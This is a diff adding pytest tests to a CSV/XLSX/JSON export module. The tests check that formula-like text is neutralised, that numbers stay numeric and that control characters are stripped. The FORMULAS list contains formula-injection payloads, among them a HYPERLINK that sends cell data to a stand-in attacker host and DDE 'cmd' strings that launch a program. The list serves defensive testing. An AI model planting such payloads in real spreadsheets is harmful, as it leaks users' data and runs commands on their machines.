@@ -51,3 +51,61 @@ def test_xlsx_has_header_and_rows() -> None:
 def test_unknown_format() -> None:
     with pytest.raises(ValueError):
         write(ROWS, "pdf")
+
+
+# Text a spreadsheet would run: OWASP's leading characters, with blanks, invisible characters or
+# full-width forms in front of them, and a line break or tab first.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n-1",
+    " =1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff@A1",
+    "＝1+1",
+    "-5",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_is_neutralized_in_csv(text: str) -> None:
+    data = write([{"id": 1, "title": text}], "csv").decode("utf-8-sig")
+    cell = next(iter(csv.DictReader(io.StringIO(data))))["title"]
+    assert cell.startswith("'") and cell[1:] == text.replace("\r", "\n")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_like_text_is_a_string_in_xlsx(text: str) -> None:
+    sheet = load_workbook(io.BytesIO(write([{"id": 1, "title": text}], "xlsx"))).active
+    cell = sheet["B2"]
+    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
+
+
+def test_numbers_stay_numbers_and_plain_text_stays_as_it_is() -> None:
+    rows = [
+        {"lat": -33.5, "hours": Decimal("-2.5"), "delta": -7, "note": "a-b", "when": "2026-11-30"}
+    ]
+    data = write(rows, "csv").decode("utf-8-sig")
+    assert next(iter(csv.DictReader(io.StringIO(data)))) == {
+        "lat": "-33.5",
+        "hours": "-2.5",
+        "delta": "-7",
+        "note": "a-b",
+        "when": "2026-11-30",
+    }
+    sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
+    assert [c.data_type for c in sheet[2]] == ["n", "n", "n", "s", "s"]
+    assert [c.value for c in sheet[2]] == [-33.5, -2.5, -7, "a-b", "2026-11-30"]
+
+
+def test_control_characters_and_lone_surrogates_are_dropped_in_every_format() -> None:
+    rows = [{"text": "灯\x00坏\x0b了\x1b\x7f\x85\x9f\ud800\ufffe", "n": 1}]
+    for fmt in ("csv", "json"):
+        assert "灯坏了" in write(rows, fmt).decode("utf-8-sig")
+    sheet = load_workbook(io.BytesIO(write(rows, "xlsx"))).active
+    assert sheet["A2"].value == "灯坏了"
